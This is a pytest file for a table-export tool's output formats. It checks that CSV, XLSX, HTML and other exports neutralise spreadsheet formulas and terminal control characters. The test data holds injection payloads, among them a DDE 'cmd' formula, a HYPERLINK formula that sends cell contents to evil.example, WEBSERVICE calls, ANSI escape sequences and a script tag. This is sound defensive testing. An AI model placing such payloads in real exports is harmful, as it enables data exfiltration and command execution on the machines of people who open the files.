"""What a server calls its nodes runs neither in the spreadsheet of whoever opens an export nor in their terminal."""

import csv
import unicodedata
from dataclasses import replace
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cloutui.delivery import as_csv, as_html, as_xlsx, copy_as
from cloutui.delivery.formats import FORMATS
from cloutui.delivery.harmless import harmless, harmless_in_csv
from cloutui.delivery.heading import Export, Heading
from cloutui.model.safe_text import safe
from cloutui.model.table import Column, Freshness, Kind
from tests.delivery.answers import an_answer, exported, texts
from tests.delivery.readers import READERS, read_svg, written

FORMULAS = [
    "=cmd|'/C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1", '"=1', ",=1",
    "\n=1", "\u00a0=1", "﹦1", "−1", "'=1", ";=1", "=1;=1", "%0A=1", "|=1",
    '=HYPERLINK("http://evil.example/"&A1,"ok")', "=WEBSERVICE(A1)", "+1-1|cmd", '" ;,=1',
]  # fmt: skip
"""Starts of formulas, plain and behind what readers trim or use up."""

STEERING = [
    "N\x1b]0;T\x07",
    "\x1b[2J",
    "\x9b2J",
    "A\rB",
    "abc\b\b",
    "\x00",
    "\x7f",
    "\u202e",
    "\ufeff",
    "\x85",
]
"""What a terminal obeys, or what hides text in it."""

FOR_SPREADSHEETS = ("csv", "xlsx", "html")
TEXT_FORMATS = [name for name, how in FORMATS.items() if not how.is_binary]


def _runs(cell: str) -> bool:
    """Whether some spreadsheet takes it for a formula: by its first sign, past what readers trim or use up."""
    rest = cell.lstrip(' \t\r\n\u00a0",;|')
    return unicodedata.normalize("NFKC", rest[:1]) in {"=", "+", "-", "@", "−"}


def _cells(name: str, *given: str) -> list[str]:
    return [row["text"] or "" for row in READERS[name](exported(texts(*given)))]


@pytest.mark.parametrize("name", FOR_SPREADSHEETS)
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_starts_a_formula(name: str, text: str) -> None:
    assert [cell for cell in _cells(name, text) if _runs(cell)] == []
    assert [cell.lstrip("'").replace(";'", ";") for cell in _cells(name, text)] == [safe(text).lstrip("'")]


@pytest.mark.parametrize("module", [as_csv, as_xlsx, as_html], ids=FOR_SPREADSHEETS)
def test_without_the_guard_the_same_cells_would_run(module: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "harmless_in_csv" if module is as_csv else "harmless", str)
    name = module.__name__.rpartition("_")[2]
    assert len([cell for cell in _cells(name, *FORMULAS) if _runs(cell)]) >= 18


@pytest.mark.parametrize("text", FORMULAS)
def test_what_is_copied_into_a_spreadsheet_does_not_run_there(text: str) -> None:
    assert not _runs(next(csv.reader(StringIO(copy_as.tsv(texts(text))), delimiter="\t"))[0])


@settings(deadline=None)
@given(st.lists(st.text(st.sampled_from("=+-@;,\"' \ta1\n|＝"), max_size=8) | st.text(max_size=30), max_size=5))
def test_a_comma_file_opened_as_one_of_semicolons_has_no_formula_either(given_texts: list[str]) -> None:
    content = written("csv", exported(texts(*given_texts)))
    for separator in ",;\t":
        for row in csv.reader(StringIO(content), delimiter=separator):
            assert [cell for cell in row if _runs(cell)] == []


def test_only_the_sign_after_a_semicolon_is_disarmed_inside_a_text() -> None:
    assert harmless_in_csv("a;=1;b; -2") == "a;'=1;b;' -2"
    assert harmless("a;=1") == "a;=1"


@pytest.mark.parametrize("text", ["ACME-SQL01", "a=b", "1-2", "", "x@y", "Ærø", "'quoted'"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert harmless(text) == harmless_in_csv(text) == text


@pytest.mark.parametrize("name", FOR_SPREADSHEETS)
def test_numbers_stay_numbers_below_zero_too(name: str) -> None:
    answer = an_answer([Column(name="n", kind=Kind.COUNT)], [{"n": -1}])
    [row] = READERS[name](exported(answer))
    assert float(row["n"]) == -1


def test_raw_csv_leaves_text_as_it_is() -> None:
    lines = list(csv.reader(StringIO(written("csv", exported(texts("=1", "a;=1"), is_raw=True)))))
    assert lines == [["text"], ["=1"], ["a;=1"]]


def test_no_cell_of_a_sheet_is_a_formula_or_a_link() -> None:
    content = written("xlsx", exported(texts(*FORMULAS, "http://evil.example", "internal:Sheet1!A1")))
    sheet = openpyxl.load_workbook(BytesIO(content))["rows"]
    assert {cell.data_type for [cell] in sheet.iter_rows()} == {"s"}
    assert [cell for [cell] in sheet.iter_rows() if cell.hyperlink] == []


def _steers(content: str) -> list[str]:
    unseen = {"Cc", "Cf", "Cs", "Co", "Cn"}
    return [char for char in content if unicodedata.category(char) in unseen and char != "\n"]


@pytest.mark.parametrize("name", TEXT_FORMATS)
def test_nothing_that_steers_a_terminal_is_written(name: str) -> None:
    assert _steers(written(name, exported(texts(*STEERING)))) == []
    assert _steers(written("csv", exported(texts(*STEERING), is_raw=True))) == []


@pytest.mark.parametrize("name", TEXT_FORMATS)
def test_a_heading_is_as_safe_as_a_cell(name: str) -> None:
    evil = "".join(STEERING) + "</dd><script>]]>&"
    heading = Heading(report="jobs", summary=evil, unit=evil, parameters={"node": evil}, filter=evil, made_by=evil)
    as_of = {evil: Freshness(server=evil, collected_at=None, problem=evil, hint=evil)}
    answer = replace(texts("x"), as_of=as_of, notes=[evil])
    content: str = written(name, Export(answer=answer, heading=heading))
    assert _steers(content) == []
    assert "<script" not in content or name in {"table", "json"}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), min_size=1, max_size=4))
def test_any_text_comes_back_as_its_safe_line(given_texts: list[str]) -> None:
    safe_lines = [safe(text) for text in given_texts]
    for name in ("json", "ndjson", "parquet"):
        assert _cells(name, *given_texts) == safe_lines
    for name, guard in (("csv", harmless_in_csv), ("html", harmless)):
        assert _cells(name, *given_texts) == [guard(line) for line in safe_lines]


@settings(max_examples=15, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), min_size=1, max_size=4))
def test_any_text_comes_back_from_a_sheet_and_a_picture(given_texts: list[str]) -> None:
    sheet = openpyxl.load_workbook(BytesIO(written("xlsx", exported(texts(*given_texts)))))["rows"]
    assert [cell.value or "" for [cell] in sheet.iter_rows(min_row=2)] == [harmless(safe(text)) for text in given_texts]
    drawn = [text for line in read_svg(exported(texts(*given_texts))) for text in line]
    assert [safe(text) for text in given_texts if safe(text) and safe(text) not in drawn] == []
